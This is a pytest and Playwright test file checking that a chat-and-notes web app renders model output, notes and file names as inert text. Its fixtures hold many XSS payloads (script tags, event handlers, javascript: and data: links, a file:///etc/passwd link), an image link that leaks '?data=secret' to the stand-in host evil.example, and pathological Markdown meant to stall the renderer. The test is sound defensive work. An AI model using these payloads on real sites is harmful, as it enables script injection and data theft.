"""What notes and models write is text to the page: it runs nothing, loads nothing, and leads nowhere by itself."""

import socket
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, expect

from tests.agents import scripts
from tests.agents.scripted import Call, Model
from tests.agents.scripts import Cast
from tests.page import sites
from tests.page.sites import answered, say

pytestmark = pytest.mark.timeout(60)
EVIL = "http://evil.example/steal"
HOSTILE = f"""# <img src=x onerror="document.title='owned'">

<script>document.title = 'owned'</script>
<iframe src="{EVIL}"></iframe><style>body {{ display: none }}</style>
<svg onload="document.title='owned'"></svg> <a href="javascript:document.title='owned'">html</a>

![pixel]({EVIL}?data=secret) and ![[{EVIL}]] and [![inside]({EVIL}?in)](javascript:document.title='owned')

[click](javascript:document.title='owned') [tab](java\tscript:document.title='owned')
[upper](JaVaScRiPt:document.title='owned') [data](data:text/html,<script>parent.document.title='owned'</script>)
[vb](vbscript:x) [blob](blob:http://x/1) [file](file:///etc/passwd) [mine](//evil.example/x)
<javascript:document.title='owned'> <{EVIL}?angled>

[outside]({EVIL}?clicked "title\\" onclick=document.title='owned'") [[javascript:document.title='owned'|wiki]]

| <b onmouseover=document.title='owned'>cell</b> | `code <script>` |
|---|---|
| {{{{7*7}}}} | ${{document.title='owned'}} |

```html" onmouseover="document.title='owned'
</code></pre><script>document.title='owned'</script>
```

> [!x" onclick="document.title='owned']
- [x] <input autofocus onfocus="document.title='owned'">
"""


def strangers(tab: Page, address: str) -> list[str]:
    """Note every request that goes elsewhere."""
    found: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(address):
            found.append(request.url)

    tab.on("request", note)
    return found


def check(tab: Page, place: str) -> None:
    """See that a place shows the text, without anything made of it."""
    made = tab.locator(place).locator("img, script, iframe, style, svg, object, embed, form, link, meta, base")
    expect(made).to_have_count(0)
    expect(tab).to_have_title("Knapper")
    node = tab.locator(place)
    assert node.locator("a").evaluate_all("all => all.filter(a => !/^(https?|mailto):/.test(a.href)).length") == 0
    assert node.locator("a").evaluate_all("all => all.filter(a => !a.rel.includes('noopener')).length") == 0
    assert (
        node.locator("*").evaluate_all(
            "all => all.flatMap(n => n.getAttributeNames()).filter(n => /^(on|style)/.test(n))"
        )
        == []
    )


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\u2028\n"])
def test_an_answer_runs_and_loads_nothing(tmp_path: Path, tab: Page, ending: str) -> None:
    with sites.serving(tmp_path, Model([[HOSTILE.replace("\n", ending)]]).open) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab)
        say(tab, "Show me")
        answered(tab)
        expect(tab.locator(".answer")).to_contain_text("<script>")
        check(tab, ".answer")
        for dead in tab.locator(".answer .dead").all():
            dead.click()
        tab.locator(".answer").hover()
        tab.reload()
        expect(tab.locator(".answer")).to_contain_text("<script>")
        check(tab, ".answer")

        assert elsewhere == []


def test_a_note_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
    look = Call("search_vault", {"query": "evil"})
    with sites.serving(tmp_path, Model([[look], ["See [[Evil]]."]]).open, notes={"Evil.md": HOSTILE}) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab)
        say(tab, "Show me")
        answered(tab)
        tab.get_by_role("button", name="Evil", exact=True).click()
        expect(tab.locator(".passage")).to_contain_text("<script>")
        check(tab, ".passage")
        tab.locator("details.steps > summary").click()
        tab.locator("details.step > summary").click()
        check(tab, ".steps")
        tab.get_by_role("button", name="As written").click()
        check(tab, ".passage")

        assert elsewhere == []


def test_what_agents_find_and_ask_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
    evil = "<img src=x onerror=\"document.title='owned'\">"
    ask = Call("ask_user", {"question": evil, "options": [evil]})
    found = scripts.select("Evil.md", reasoning=HOSTILE)
    model = Cast({"scout": [[ask], [found]], "task": [scripts.task(HOSTILE, ("Evil.md", "line:999", evil))]})
    with sites.serving(tmp_path, model.open, notes={"Evil.md": HOSTILE}) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab)
        tab.get_by_role("button", name="Scout", exact=True).click()
        say(tab, evil)
        expect(tab.locator("#questions .entry")).to_contain_text("<img src=x")
        check(tab, "#questions")
        tab.locator(".asks").get_by_role("button", name=evil).click()
        answered(tab)
        for summary in tab.locator(".finding summary").all():
            summary.click()
        expect(tab.locator(".selection")).to_contain_text("<script>")
        check(tab, "#log")

        assert elsewhere == []


def test_names_of_notes_and_conversations_are_text(tmp_path: Path, tab: Page) -> None:
    evil = "<img src=x onerror=\"document.title='owned'\">"
    name = "<svg onload=alert(1)>.md"
    noted = {name: "# X\n"}
    create = Call("create_file", {"path": "<img src=x onerror=alert(1)>.md", "content": evil})
    with sites.serving(tmp_path, Model([[create], [evil]]).open, notes=noted) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab)
        say(tab, evil)
        answered(tab)
        expect(tab.locator("#sessions .entry")).to_contain_text("<img src=x")
        for place in ("#app #lists", "#log"):
            check(tab, place)

        assert elsewhere == []


def test_a_link_says_where_it_leads(tmp_path: Path, tab: Page) -> None:
    text = f"[your bank]({EVIL}) and https://example.org/a and [https://example.org](http://evil.example/)"
    with sites.serving(tmp_path, Model([[text]]).open) as site:
        site.enter(tab)
        say(tab, "Links")
        answered(tab)

        expect(tab.locator(".answer a").nth(0)).to_have_text("your bank (evil.example)")
        expect(tab.locator(".answer a").nth(1)).to_have_text("https://example.org/a")
        expect(tab.locator(".answer a").nth(2)).to_have_text("https://example.org (evil.example)")


def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, tab: Page) -> None:
    with sites.serving(tmp_path, Model([["Hi."]]).open) as site, socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        site.enter(tab)
        refused = tab.evaluate(
            """async (port) => {
              const tried = [];
              const note = (name) => () => tried.push(name);
              try { document.body.innerHTML = "<b>x</b>"; } catch { tried.push("markup"); }
              await fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors" }).catch(note("fetch"));
              const picture = new Image();
              picture.src = `http://127.0.0.1:${port}/picture`;
              await picture.decode().catch(note("picture"));
              const inline = document.createElement("script");
              try {
                inline.textContent = "document.title = 'owned'";
                document.body.append(inline);
              } catch { tried.push("script"); }
              return tried;
            }""",
            elsewhere.getsockname()[1],
        )

        assert refused == ["markup", "fetch", "picture", "script"]
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
        expect(tab).to_have_title("Knapper")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "**a " * 20_000,
        "`" * 30_000 + "a",
        "> " * 3_000 + "x",
        "- " * 5_000,
        "\n" * 50_000,
        "a|" * 20_000 + "\n|-|",
        "![[" * 20_000,
        "](" * 20_000,
        "_a" * 20_000,
        "* a\n\n" * 5_000,
        "<http://" * 10_000,
        "[a](" * 15_000,
    ],
    ids=range(13),
)
def test_no_text_holds_the_page_up(tmp_path: Path, tab: Page, text: str) -> None:
    with sites.serving(tmp_path, Model([["Hi."]]).open) as site:
        tab.goto(site.address)
        shown = tab.evaluate(
            """async (text) => {
              const { render } = await import("/page/js/markdown/render.js");
              const node = document.createElement("div");
              node.append(...render(text, () => {}));
              return node.textContent.length;
            }""",
            text,
        )

        assert shown >= 0
